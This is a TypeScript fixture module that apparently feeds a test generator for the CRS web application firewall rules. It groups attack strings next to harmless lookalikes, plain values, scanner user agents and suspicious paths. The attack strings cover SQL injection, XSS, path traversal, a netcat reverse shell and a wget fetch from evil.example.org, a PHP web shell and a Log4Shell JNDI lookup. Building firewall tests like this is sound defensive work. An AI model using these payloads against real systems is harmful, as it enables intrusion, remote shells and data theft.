// What visitors and attackers write: values for generated requests, by what CRS thinks of them.

/** Attacks of one kind each; most score in several rules. */
export const ATTACKS: readonly (readonly string[])[] = [
  [
    "1' OR 1=1-- -",
    '1 UNION SELECT null,version(),user()-- -',
    "admin' AND SLEEP(5)#",
    "x'; DROP TABLE orders; --",
    '(SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,database())x FROM information_schema.tables GROUP BY x)a)',
    "1' AND extractvalue(1,concat(0x7e,(select @@version)))-- -",
    '-1 OR benchmark(1000000,md5(1))',
  ],
  [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(document.cookie)>',
    '<svg/onload=confirm(1)>',
    'javascript:alert(1)',
    '<iframe src="https://evil.example.org/"></iframe>',
    "';alert(String.fromCharCode(88,83,83))//",
  ],
  [
    '../../../../etc/passwd',
    '/proc/self/environ',
    '..%2f..%2fwp-config.php',
    '....//....//etc/shadow',
    'C:\\windows\\win.ini',
  ],
  [
    ';cat /etc/passwd',
    '$(wget http://evil.example.org/x.sh)',
    '| nc -e /bin/sh 192.0.2.66 4444',
    '`id`',
    '() { :;}; /bin/bash -c "id"',
    '&& powershell -nop Get-Process',
  ],
  [
    '<?php system($_GET["c"]); ?>',
    'php://filter/convert.base64-encode/resource=index.php',
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    'auto_prepend_file=http://evil.example.org/s.txt',
    'http://192.0.2.66/shell.txt?',
  ],
  [
    'java.lang.Runtime.getRuntime().exec("id")',
    '${jndi:ldap://evil.example.org/a}',
    'require("child_process").exec("id")',
  ],
];

/** Innocent texts; some of them score. */
export const LOOKALIKES: readonly string[] = [
  'Select a size from the list and order by Friday',
  "it's 5 o'clock; don't -- please -- wait",
  'SELECT name FROM products WHERE price < 10',
  '<b>bold</b> and <a href="https://www.example.com/">a link</a>',
  '<p style="color:red" onclick="show()">More</p>',
  'see /etc/hosts and /etc/passwd for the details',
  '<?php echo "hello"; ?> is how the lesson begins',
  'cat and dog; ls -la shows them',
  'javascript: the good parts',
  'union of workers; select committee',
  'price = ${total} * 1.2',
  'C:\\Users\\jana\\Documents\\offer.docx',
  'Tom & Jerry (1940) "classic"',
  'https://www.example.org/?a=1&b=2',
  '-- regards, Jana',
  'if (a == 1 || b == 2) { alert("x") }',
  'https://192.0.2.80/photo.jpg',
  'document.getElementById("menu")',
];

/** Texts that no rule minds. */
export const PLAIN: readonly string[] = [
  'garden chair',
  'red wine 0.75',
  '42',
  'Jana Novakova',
  'jana@example.com',
  'blue',
  '2026-11-22',
  'hello world',
  'next',
  'Bratislava',
  'yes',
];

export const AGENTS: readonly string[] = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36',
  'curl/8.14.1',
];
export const SCANNERS: readonly string[] = ['sqlmap/1.8', 'Mozilla/5.00 (Nikto/2.5.0)', 'masscan/1.3'];

/** Paths of pages: fixed ones, and templates whose `{n}` is a number. */
export const PAGES: readonly string[] = [
  '/product.php',
  '/search.php',
  '/cart.php',
  '/contact.php',
  '/post/{n}/edit',
  '/api/orders/{n}',
  '/',
];
/** Paths that score or look odd by themselves. */
export const ODD_PAGES: readonly string[] = [
  '/backup.sql',
  '/.env',
  '/.git/config',
  '/wp-config.php.bak',
  '/%70roduct.php',
  '//search.php',
  '/product.php/more',
  '/a/../product.php',
  '/gr%C3%BC%C3%9Fe.php',
];
export const FIELDS: readonly string[] = [
  'id',
  'q',
  'comment',
  'title',
  'address[street]',
  'note',
  'page',
  'item.name',
];
